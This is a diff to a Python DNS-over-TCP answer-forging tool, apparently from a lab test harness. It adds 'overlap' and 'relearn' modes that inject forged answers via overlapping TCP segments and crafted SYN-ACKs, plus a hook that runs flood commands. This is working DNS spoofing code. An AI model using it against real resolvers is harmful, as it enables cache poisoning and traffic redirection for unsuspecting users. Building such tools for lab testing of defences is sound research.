@@ -17,7 +17,25 @@ and answers it first, in R1's name, with --answer, shaped by --attack:
   badsum     a decoy first: a whole, longer reply for an unprotected name
              (--decoy) at the next message start with a wrong TCP checksum,
              which the workload's TCP discards; then the forged answer as
-             one whole segment at the same sequence number.
+             one whole segment at the same sequence number;
+  overlap    one segment that starts before the next byte the workload
+             expects: its first bytes, which the workload already has and
+             drops, read as a length prefix, a reply header and a question
+             for the unprotected --decoy name, a whole message that ends
+             with the segment; from the next byte on it carries the forged
+             answer. Judged by the segment alone it is an unprotected
+             reply; the workload reads the forgery;
+  relearn    overlap on a connection that carried no answer yet, after a
+             SYN-ACK whose initial sequence number puts the stream's start
+             where that segment starts (the workload's TCP ignores a SYN-ACK
+             on an established connection).
+
+--flood CMD (repeatable) runs CMD (split like a shell would, no shell)
+before the forgery goes out and waits for it (at most --timeout seconds): a flood
+of forged connections, for example tools/dw-flood --synack. With --go-file
+the floods run once R1's first answer on the connection went by, and the
+file is created after them (the workload, tests/lab/py/tcpask.py, waits for
+it before its last question), so the flood's length does not race R1.
 
 --force-tc first answers the workload's UDP query for the name with a
 forged reply that has TC set and no records, as a blind or on-path UDP
@@ -33,8 +51,10 @@ that sends the IP header as given; checksums computed here.
 import argparse
 import os
 import select
+import shlex
 import socket
 import struct
+import subprocess
 import sys
 import time
 
@@ -163,6 +183,8 @@ class Injector:
         self.to_client = Ip(server, client)
         self.raw = socket.socket(self.to_client.fam, socket.SOCK_RAW, socket.IPPROTO_RAW)
         self.conns = {}
+        self.cap = None
+        self.flooded = False
         self.tc_sent = not args.force_tc
         self.queries = 0  # messages the workload sent over TCP, for the log
 
@@ -233,7 +255,19 @@ class Injector:
             c.srv_next = (seq + 1) & SEQ_MASK
         elif payload and c.srv_next is not None and seq_after((seq + len(payload)) & SEQ_MASK, c.srv_next):
             c.srv_next = (seq + len(payload)) & SEQ_MASK
+            if self.args.go_file and self.args.flood and not self.flooded:
+                self.flood_between()
         return False
+
+    def flood_between(self):
+        """The floods between two questions: the capture is reopened after them
+        (the flood's own frames would have filled it), then the go-file made."""
+        self.cap.close()
+        self.flood()
+        self.open_capture()
+        with open(self.args.go_file, "w") as f:
+            f.write("flooded\n")
+        log("; created %s" % self.args.go_file)
 
     def attack(self, c, cport, query):
         ip, nxt, ack = self.to_client, c.srv_next, c.cli_next
@@ -245,7 +279,12 @@ class Injector:
         elif self.args.attack == "synack":
             self.send(tcp_segment(ip, 53, cport, nxt + 0x100000 - 1, ack, SYN | ACK),
                       "SYN-ACK isn=next+0x100000-1")
+        if self.args.flood and not self.flooded:
+            self.flood()
         wire = self.reply(query, False)
+        if self.args.attack in ("overlap", "relearn"):
+            self.overlap(c, cport, query, wire)
+            return
         if self.args.attack == "badsum":
             decoy = self.decoy(query.id ^ 0x5A5A, len(wire))  # no outstanding query's ID
             self.send(tcp_segment(ip, 53, cport, nxt, ack, PSH | ACK, struct.pack("!H", len(decoy)) + decoy,
@@ -258,17 +297,51 @@ class Injector:
                       "answer bytes %d..%d of %d id=%d to port %d" % (off, off + len(part), len(stream),
                                                                       query.id, cport))
 
+    def flood(self):
+        self.flooded = True
+        for cmd in self.args.flood:
+            t0 = time.monotonic()
+            try:
+                out = subprocess.run(shlex.split(cmd), stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
+                                     timeout=self.args.timeout, check=False)
+                lines, rc = out.stdout.decode(errors="replace").splitlines(), out.returncode
+            except (OSError, subprocess.TimeoutExpired) as e:
+                lines, rc = [str(e)], -1
+            for line in lines:
+                log("; flood: %s" % line)
+            log("; flood exit %d after %.3f s" % (rc, time.monotonic() - t0))
+
+    def overlap(self, c, cport, query, wire):
+        """The forgery from before the next byte, behind an unprotected reply's header;
+        relearn: after a SYN-ACK whose ISN puts the stream's start there."""
+        q = dns.message.make_query(self.args.decoy, dns.rdatatype.TXT)
+        q.id = query.id ^ 0x5A5A
+        head = q.to_wire()
+        head = head[:2] + struct.pack("!H", 0x8180) + head[4:]  # a reply: QR, RD, RA
+        fake = 2 + len(head)  # bytes the workload already has, read here as a prefix and header
+        payload = struct.pack("!H", fake - 2 + 2 + len(wire)) + head + struct.pack("!H", len(wire)) + wire
+        seq = c.srv_next - fake
+        if self.args.attack == "relearn":
+            self.send(tcp_segment(self.to_client, 53, cport, seq - 1, c.cli_next, SYN | ACK),
+                      "SYN-ACK isn=next-%d" % (fake + 1))
+        self.send(tcp_segment(self.to_client, 53, cport, seq, c.cli_next, PSH | ACK, payload),
+                  "answer id=%d to port %d from seq next-%d behind a %s reply" % (
+                      query.id, cport, fake, self.args.decoy))
+
+    def open_capture(self):
+        self.cap = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
+        self.cap.bind((self.args.iface, 0))
+
     def run(self):
-        cap = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
-        cap.bind((self.args.iface, 0))
+        self.open_capture()
         log("; ready: watching %s for %s %s from %s" % (self.args.iface, self.qname,
                                                           dns.rdatatype.to_text(self.qtype), self.client))
         deadline = time.monotonic() + self.args.timeout
         for _ in range(MAX_FRAMES):
             left = deadline - time.monotonic()
-            if left <= 0 or not select.select([cap], [], [], left)[0]:
+            if left <= 0 or not select.select([self.cap], [], [], left)[0]:
                 break
-            frame, addr = cap.recvfrom(65535)
+            frame, addr = self.cap.recvfrom(65535)
             if addr[2] == PACKET_OUTGOING:
                 continue  # our own injections
             got = parse_frame(frame)
@@ -298,10 +371,13 @@ def main():
     ap.add_argument("--qname", required=True)
     ap.add_argument("--qtype", default="A")
     ap.add_argument("--answer", action="append", required=True, help="forged rdata in text, repeatable")
-    ap.add_argument("--attack", choices=("rst-split", "synack", "badsum"), required=True)
+    ap.add_argument("--attack", choices=("rst-split", "synack", "badsum", "overlap", "relearn"), required=True)
+    ap.add_argument("--flood", metavar="CMD", action="append", default=[],
+                    help="run CMD before the forgery goes out (repeatable, in order)")
     ap.add_argument("--decoy", default="www.example.test", help="badsum: the unprotected name of the decoy")
     ap.add_argument("--split", type=int, default=12, metavar="BYTES",
                     help="rst-split: bytes of the stream (length prefix included) in the first segment")
+    ap.add_argument("--go-file", help="with --flood: flood after R1's first answer, then create this file")
     ap.add_argument("--force-tc", action="store_true", help="first answer the UDP query with TC set")
     ap.add_argument("--ipv6", action="store_true")
     ap.add_argument("--src", help="the resolver (default R1)")
